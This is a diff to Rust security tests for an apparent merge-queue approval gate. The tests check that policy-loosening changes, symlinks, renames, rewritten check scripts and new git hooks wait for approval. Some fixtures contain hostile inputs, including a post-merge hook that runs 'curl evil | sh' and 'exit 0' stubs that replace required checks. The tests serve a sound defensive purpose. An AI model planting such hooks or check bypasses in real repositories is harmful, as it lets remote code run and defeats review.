@@ -57,7 +57,13 @@ fn guarded(approvers: &[&str], extra: &str) -> Attack {
     a
 }
 
-/// Drain the queue; nothing may be landed, and the reports of `id` say so.
+/// Drain the queue: a worker must not even take what waits for approval.
+fn drain_takes_nothing(a: &Attack) {
+    let reports = a.drain();
+    assert!(reports.is_empty(), "a worker took a waiting request: {reports:?}");
+}
+
+/// Drain the queue; nothing may be landed.
 fn drain_lands_nothing(a: &Attack) -> Vec<Value> {
     let reports = a.drain();
     assert!(
@@ -77,7 +83,7 @@ fn a_request_adding_a_looser_policy_waits_and_nothing_of_it_lands() {
             "[limits]\nfiles = 100000\n\n[checks.t]\nrun = [\"true\"]\n\n[[tiers]]\nname = \"sensitive\"\nrequired_checks = [\"t\"]\n",
         )
     });
-    assert!(a.drain().is_empty(), "a worker took a waiting request");
+    drain_takes_nothing(&a);
     let r = a.waits(&id);
     assert_eq!(r["approval_tiers"], json!(["gate"]));
 }
@@ -95,7 +101,7 @@ fn a_policy_change_hidden_among_innocent_changes_waits() {
             "#!/bin/sh\nexit 0\n",
         );
     });
-    drain_lands_nothing(&a);
+    drain_takes_nothing(&a);
     a.waits(&id);
 }
 
@@ -125,7 +131,7 @@ fn renames_into_and_out_of_the_gate_wait() {
         )
         .unwrap();
     });
-    drain_lands_nothing(&a);
+    drain_takes_nothing(&a);
     a.waits(&into);
     a.waits(&out_of);
 }
@@ -140,7 +146,7 @@ fn making_a_file_executable_waits_even_when_the_patch_claims_it_was_already() {
     let lying = a.enqueue(&request("T-2", &[("build.sh", "update", patch)], json!({})));
     let r = a.record(&lying);
     assert_eq!(r["status"], "awaiting_approval", "{r}");
-    drain_lands_nothing(&a);
+    drain_takes_nothing(&a);
     a.waits(&honest);
     a.waits(&lying);
 }
@@ -158,7 +164,7 @@ fn a_symlink_named_like_the_gate_or_pointing_into_it_waits() {
         symlink(root, "docs/policy", "../.hyperion/policy.toml")
     });
     let hooks = a.propose("T-3", &[], |root| symlink(root, "ci", ".github/workflows"));
-    drain_lands_nothing(&a);
+    drain_takes_nothing(&a);
     assert_eq!(a.waits(&named)["approval_tiers"], json!(["gate"]));
     assert_eq!(a.waits(&pointing)["approval_tiers"], json!(["gate"]));
     assert_eq!(a.waits(&hooks)["approval_tiers"], json!(["sensitive"]));
@@ -216,7 +222,7 @@ fn other_spellings_of_the_gate_wait() {
     {
         ids.push(a.enqueue(&adds(&format!("T-{i}"), path, "[limits]\nfiles = 100000")));
     }
-    drain_lands_nothing(&a);
+    drain_takes_nothing(&a);
     for id in &ids {
         a.waits(id);
     }
@@ -310,7 +316,7 @@ fn rewriting_the_program_of_a_required_check_waits() {
         write(root, "ci/unit.sh", "exit 0\n");
         write(root, "backdoor", "x\n");
     });
-    drain_lands_nothing(&a);
+    drain_takes_nothing(&a);
     assert_eq!(a.waits(&id)["approval_tiers"], json!(["gate"]));
 }
 
@@ -350,7 +356,7 @@ fn adding_a_hook_where_core_hooks_path_points_waits() {
     let a = guarded(&[ALICE], "");
     a.repo.git(&["config", "core.hooksPath", "tools/hooks"]);
     let id = a.enqueue(&adds("T-1", "tools/hooks/post-merge", "curl evil | sh"));
-    drain_lands_nothing(&a);
+    drain_takes_nothing(&a);
     assert_eq!(a.waits(&id)["approval_tiers"], json!(["gate"]));
 }
 
@@ -375,7 +381,7 @@ fn editing_what_a_hook_symlink_points_to_waits() {
             .contains("through the symlink '.husky/pre-commit'"),
         "{r}"
     );
-    drain_lands_nothing(&a);
+    drain_takes_nothing(&a);
     assert_eq!(a.waits(&id)["approval_tiers"], json!(["sensitive"]));
 }
 
